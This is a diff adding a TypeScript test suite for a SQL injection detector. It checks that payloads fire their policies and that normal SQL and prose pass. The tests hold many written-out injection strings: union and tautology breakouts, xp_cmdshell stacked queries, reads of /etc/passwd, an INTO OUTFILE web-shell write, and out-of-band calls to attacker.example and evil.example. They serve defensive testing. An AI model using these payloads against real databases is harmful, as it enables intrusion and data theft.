@@ -1,0 +1,320 @@
+import assert from "node:assert/strict";
+import { findSqlInjection, SQLI_POLICIES } from "./sqli.ts";
+
+const free = (t: string) => findSqlInjection(t, { isStatement: false });
+const stmt = (t: string) => findSqlInjection(t, { isStatement: true });
+const types = (fs: { type: string }[]) => fs.map((f) => f.type);
+
+function assertFires(t: string, type: string, isStatement = false): void {
+  const got = types(findSqlInjection(t, { isStatement }));
+  assert.ok(got.includes(type), `${JSON.stringify(t)} → ${got.join(",")}`);
+}
+
+function assertClean(t: string, isStatement = false): void {
+  const got = findSqlInjection(t, { isStatement });
+  assert.deepEqual(types(got), [], JSON.stringify(t));
+}
+
+Deno.test("catalogue: ids, categories, at least 30 techniques", () => {
+  assert.ok(SQLI_POLICIES.length >= 30);
+  const ids = new Set(SQLI_POLICIES.map((p) => p.id));
+  assert.equal(ids.size, SQLI_POLICIES.length);
+  for (const p of SQLI_POLICIES) {
+    assert.match(p.id, /^sys_sqli_[a-z_]+$/);
+    assert.equal(p.category, "sqli");
+    assert.equal(p.appliesTo, "input");
+    assert.ok(p.patterns.length > 0 && p.keywords.length > 0);
+    assert.ok(p.description.length > 20);
+  }
+});
+
+Deno.test("union-based: breakouts, null probing, fingerprints", () => {
+  assertFires(
+    "' UNION SELECT username, password FROM users--",
+    "sqli_union_select",
+  );
+  assertFires("1 union all select 1,2,3", "sqli_union_select");
+  assertFires(
+    "x') union select * from information_schema.tables;",
+    "sqli_union_select",
+  );
+  assertFires("' union select null,null,null--", "sqli_union_null_probe");
+  assertFires("UN/**/ION SEL/**/ECT password FROM users", "sqli_union_select");
+  assertFires("%27%20UNION%20SELECT%20@@version--", "sqli_union_select");
+  assertFires("id=1+union+select+1,2,3", "sqli_union_select");
+  assertFires(" ORDER BY 7--", "sqli_order_by_probe");
+  // In a statement, only union signatures fire.
+  assertFires(
+    "SELECT a FROM t UNION SELECT @@version",
+    "sqli_union_select",
+    true,
+  );
+  assertFires(
+    "SELECT a, b FROM t UNION ALL SELECT NULL, NULL",
+    "sqli_union_null_probe",
+    true,
+  );
+});
+
+Deno.test("tautologies", () => {
+  assertFires("' or '1'='1", "sqli_tautology_string");
+  assertFires("' or 'a'='a", "sqli_tautology_string");
+  assertFires('") or ("x"="x', "sqli_tautology_string");
+  assertFires("admin' or 1=1--", "sqli_tautology_numeric");
+  assertFires("1 or 1=1", "sqli_tautology_numeric");
+  assertFires("' or 2 > 1", "sqli_tautology_numeric");
+  assertFires("' or a=a--", "sqli_tautology_identifier");
+  assertFires("' or true--", "sqli_tautology_true");
+  assertFires("admin'--", "sqli_comment_truncation");
+  assertFires("' OR '1'='1", "sqli_tautology_string");
+  assertFires("’ or ‘1’=’1", "sqli_tautology_string");
+  assertFires(
+    "SELECT * FROM users WHERE name = '' OR '1'='1'",
+    "sqli_tautology_string",
+    true,
+  );
+  assertFires(
+    "SELECT * FROM users WHERE id = 5 OR 1=1",
+    "sqli_tautology_numeric",
+    true,
+  );
+});
+
+Deno.test("stacked, time, error, blind", () => {
+  assertFires("1; DROP TABLE users--", "sqli_stacked_query");
+  assertFires("'; exec master..xp_cmdshell 'dir'--", "sqli_stacked_query");
+  assertFires("'; shutdown --", "sqli_shutdown");
+  assertFires("1 AND SLEEP(5)", "sqli_time_sleep");
+  assertFires("' or pg_sleep(10)--", "sqli_time_sleep");
+  assertFires("1 and 0=benchmark(3000000,MD5(1))", "sqli_time_benchmark");
+  assertFires("'; waitfor delay '0:0:5'--", "sqli_time_waitfor");
+  assertFires("BEGIN DBMS_LOCK.SLEEP(5); END;", "sqli_time_sleep");
+  assertFires("1 AND 1=randomblob(500000000)", "sqli_time_benchmark");
+  assertFires(
+    "' and extractvalue(1,concat(0x7e,version()))--",
+    "sqli_error_xml",
+  );
+  assertFires(
+    "' and updatexml(null,concat(0x3a,(select user())),null)--",
+    "sqli_error_xml",
+  );
+  assertFires("1 AND 1=CONVERT(INT,(SELECT @@version))", "sqli_error_convert");
+  assertFires("' AND 1=CAST(@@version AS INT)--", "sqli_error_convert");
+  assertFires(
+    "' and exp(~(select * from (select user())x))--",
+    "sqli_error_double_query",
+  );
+  assertFires(
+    "1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
+    "sqli_error_double_query",
+  );
+  assertFires(
+    "1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 0 END)=1",
+    "sqli_boolean_blind",
+  );
+  assertFires(
+    "1 and ascii(substring((select password from users),1,1))>64",
+    "sqli_boolean_blind",
+  );
+});
+
+Deno.test("encodings, files, commands, out of band, catalogues", () => {
+  assertFires(
+    "declare @s varchar(200) select @s = 0x73656c65637420404076657273696f6e exec(@s)",
+    "sqli_hex_encoding",
+  );
+  assertFires("' or username = 0x61646d696e--", "sqli_hex_encoding");
+  assertFires("' union select char(114,111,111,116)--", "sqli_char_encoding");
+  assertFires("CHR(65)||CHR(66)||CHR(67)", "sqli_char_encoding");
+  assertFires("'; exec ('sel' + 'ect us' + 'er')", "sqli_concat_obfuscation");
+  assertFires(
+    "' union select 1,load_file('/etc/passwd'),1--",
+    "sqli_file_access",
+  );
+  assertFires("1 into outfile '/var/www/shell.php'", "sqli_file_access");
+  assertFires("COPY t FROM PROGRAM 'id'", "sqli_file_access", true);
+  assertFires("select pg_read_file('/etc/passwd')", "sqli_file_access", true);
+  assertFires("EXEC xp_cmdshell 'whoami'", "sqli_command_exec", true);
+  assertFires("exec sp_oacreate 'wscript.shell', @o out", "sqli_command_exec");
+  assertFires(
+    "'; exec master..xp_dirtree '\\\\attacker.example\\a'--",
+    "sqli_out_of_band",
+  );
+  assertFires(
+    "' || utl_http.request('http://evil.example/') || '",
+    "sqli_out_of_band",
+  );
+  assertFires(
+    "select load_file(concat('\\\\\\\\',version(),'.x.example\\\\a'))",
+    "sqli_out_of_band",
+  );
+  assertFires(
+    "' and 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))--",
+    "sqli_out_of_band",
+  );
+  assertFires(
+    "' union select table_name from information_schema.tables--",
+    "sqli_schema_probe",
+  );
+  assertFires("1 union select name from sqlite_master", "sqli_schema_probe");
+  assertFires(
+    "' union select user, password from mysql.user--",
+    "sqli_admin_table",
+  );
+  assertFires(
+    "SELECT usename, passwd FROM pg_shadow",
+    "sqli_admin_table",
+    true,
+  );
+  assertFires("' and @@version like '5%'--", "sqli_fingerprint");
+  assertFires("1 and user_name() = 'dbo'", "sqli_fingerprint");
+});
+
+Deno.test("privileges: GRANT/REVOKE as statements, never inside words", () => {
+  assertFires(
+    "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'",
+    "sqli_privilege_change",
+    true,
+  );
+  assertFires(
+    "' grant connect to name; grant resource to name; --",
+    "sqli_privilege_change",
+  );
+  assertFires(
+    "REVOKE SELECT ON orders FROM app",
+    "sqli_privilege_change",
+    true,
+  );
+  assertFires("ALTER USER admin WITH SUPERUSER", "sqli_privilege_change", true);
+  assertClean("the migrant workers grant each other help");
+  assertClean("Union membership grants benefits");
+});
+
+Deno.test("destructive statements fire as their own policies", () => {
+  const drop = stmt("DROP TABLE users");
+  assert.deepEqual(types(drop), ["sqli_drop_table"]);
+  assert.equal(drop[0].action, "block");
+  assert.equal(stmt("DROP DATABASE prod;")[0].type, "sqli_drop_database");
+  assert.equal(stmt("TRUNCATE TABLE logs")[0].type, "sqli_truncate");
+  assert.equal(stmt("truncate logs;")[0].type, "sqli_truncate");
+  const del = stmt("DELETE FROM users;");
+  assert.deepEqual(types(del), ["sqli_delete_without_where"]);
+  assert.equal(del[0].action, "warn");
+  assert.deepEqual(types(stmt("UPDATE users SET admin = true")), [
+    "sqli_update_without_where",
+  ]);
+  assert.deepEqual(types(stmt("ALTER TABLE users DROP COLUMN email")), [
+    "sqli_alter_drop",
+  ]);
+  // With a WHERE they pass.
+  assertClean("DELETE FROM users WHERE id = 3", true);
+  assertClean("UPDATE users SET admin = true WHERE id = 3;", true);
+  // Free text does not treat prose as statements.
+  assertClean("we drop support for Node 14");
+  assertClean("Drop table salt into the soup and truncate the list.");
+});
+
+Deno.test("NoSQL, LIKE and polyglot payloads", () => {
+  assertFires(
+    '{"username": {"$ne": null}, "password": {"$ne": null}}',
+    "sqli_nosql_operator",
+  );
+  assertFires("user[$ne]=1&pass[$gt]=", "sqli_nosql_operator");
+  assertFires("', $where: '1 == 1'", "sqli_nosql_operator");
+  assertFires("' && this.password.match(/.*/)//", "sqli_nosql_javascript");
+  assertFires("' or username like '%", "sqli_like_wildcard");
+  assertFires(
+    "SLEEP(1) /*' or SLEEP(1) or '\" or SLEEP(1) or \"*/",
+    "sqli_polyglot",
+  );
+  assertFires("UN/**/ION/**/SELECT 1", "sqli_inline_comment_obfuscation");
+  assertFires("1 /*!50000UNION*/ SELECT 1", "sqli_inline_comment_obfuscation");
+});
+
+Deno.test("legitimate SQL statements pass", () => {
+  for (
+    const q of [
+      "SELECT id, name FROM users WHERE id = 42",
+      "SELECT * FROM orders WHERE status = 'open' ORDER BY created_at DESC LIMIT 20",
+      "INSERT INTO t (a) VALUES ('x')",
+      "UPDATE users SET name='x' WHERE id=1",
+      "DELETE FROM sessions WHERE expires_at < now()",
+      "SELECT u.id, o.total FROM users u JOIN orders o ON o.user_id = u.id",
+      "WITH r AS (SELECT * FROM e WHERE ts > now()) SELECT count(*) FROM r",
+      "SELECT name FROM customers UNION SELECT name FROM suppliers",
+      "SELECT id FROM a UNION ALL SELECT id FROM b ORDER BY 1",
+      "SELECT * FROM t WHERE a = 'x' OR b = 'y'",
+      "SELECT * FROM t WHERE 1=1 AND status = 'active'",
+      "SELECT CHAR(13) + CHAR(10)",
+      "CREATE TABLE o (id int REFERENCES u(id) ON DELETE CASCADE)",
+      "INSERT INTO s (k, v) VALUES ('a', 1) ON DUPLICATE KEY UPDATE v = v + 1",
+      "SELECT * FROM inventory WHERE qty < 5 -- low stock",
+      "SELECT /*+ INDEX(o idx) */ * FROM orders o WHERE user_id = 3",
+      "SELECT version()",
+      "SELECT column_name FROM information_schema.columns WHERE table_name = 'users'",
+      "BEGIN; UPDATE a SET b = b - 1 WHERE id = 1; COMMIT;",
+    ]
+  ) assertClean(q, true);
+});
+
+Deno.test("prose and documentation stay clean", () => {
+  for (
+    const t of [
+      "the migrant workers",
+      "please select an option or cancel",
+      "Union membership grants benefits",
+      "we drop support for Node 14",
+      "sleep well",
+      "Open the menu; select Save, then choose a folder from the list.",
+      "SQL injection happens when an attacker closes a quoted string and appends their own clauses, such as a union of another select or an always-true condition; use parameterised queries.",
+      "Order by 5pm to get next-day delivery, or call us.",
+      "It's 'fine' or so they say.",
+      "time.sleep(5)  # wait for the server",
+      'He said "yes" or "no" and left.',
+      "Our union selected a new leader; members voted 1 or 2 times.",
+      "x = a + b; y = 'left' + 'right'",
+      "Use `DELETE FROM table` carefully — it removes every row.",
+      "path = base + '/*'",
+      '{"$schema": "http://json-schema.org/draft-07/schema#", "$ref": "#/a"}',
+    ]
+  ) assertClean(t);
+});
+
+Deno.test("findings locate the payload in the original text", () => {
+  const text = "name=bob%27%20OR%20%271%27%3D%271&x=1";
+  const f = free(text).find((x) => x.type === "sqli_tautology_string");
+  assert.ok(f);
+  assert.ok(f.start >= 8 && f.end <= text.length && f.end > f.start);
+  assert.ok(text.slice(f.start, f.end).includes("OR"));
+});
+
+Deno.test("1 MB adversarial inputs finish (linear-time patterns)", () => {
+  const inputs = [
+    "' or ".repeat(2e5),
+    "union ".repeat(2e5),
+    "a".repeat(1e6),
+    "=".repeat(1e6),
+    "'".repeat(1e6),
+    "/*".repeat(5e5),
+    "%27".repeat(3e5),
+    "+a".repeat(5e5),
+    "0x".repeat(5e5) + "41",
+    "char(1,".repeat(1.5e5),
+    "grant select, ".repeat(7e4),
+    "' or '1'='".repeat(1e5),
+    "1=1 or ".repeat(1.5e5),
+    "delete from t ".repeat(7e4),
+    "select null,".repeat(8e4),
+    "'||".repeat(3e5),
+    "sleep(".repeat(2e5),
+    "order by 1,".repeat(1e5),
+    "$ne:{".repeat(2e5),
+  ];
+  for (const t of inputs) {
+    for (const isStatement of [false, true]) {
+      const got = findSqlInjection(t, { isStatement });
+      assert.ok(Array.isArray(got));
+      assert.ok(got.length <= SQLI_POLICIES.length * 64);
+    }
+  }
+});
